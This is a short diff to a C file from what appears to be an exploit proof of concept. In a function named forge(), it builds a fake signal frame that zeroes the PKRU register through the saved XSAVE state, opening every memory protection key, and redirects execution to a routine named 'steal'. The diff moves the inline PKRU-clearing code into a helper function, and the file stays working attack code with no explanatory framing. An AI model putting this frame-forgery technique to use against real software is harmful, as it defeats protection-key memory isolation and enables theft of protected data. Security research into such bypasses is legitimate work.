@@ -14,7 +14,6 @@
 #include "attack.h"
 #include "libprotect_symbols.h"
 
-#include <cpuid.h>
 #include <signal.h>
 #include <stdint.h>
 #include <ucontext.h>
@@ -50,13 +49,7 @@ static void forge(void)
 {
     ucontext_t *uc = (ucontext_t *)(frame + 8);
     uc->uc_mcontext.fpregs = (fpregset_t)fpstate;
-    unsigned eax, ebx, ecx, edx;
-    __cpuid_count(0xd, 9, eax, ebx, ecx, edx); /* the PKRU component's offset */
-    uint64_t bv;
-    memcpy(&bv, fpstate + 512, 8);
-    bv |= 1ull << 9;
-    memcpy(fpstate + 512, &bv, 8);
-    memset(fpstate + ebx, 0, 4);
+    xsave_open_every_key(fpstate);
     uc->uc_mcontext.gregs[REG_RIP] = (greg_t)steal;
     uc->uc_mcontext.gregs[REG_RSP] = (greg_t)(stack + sizeof stack - 8);
 }
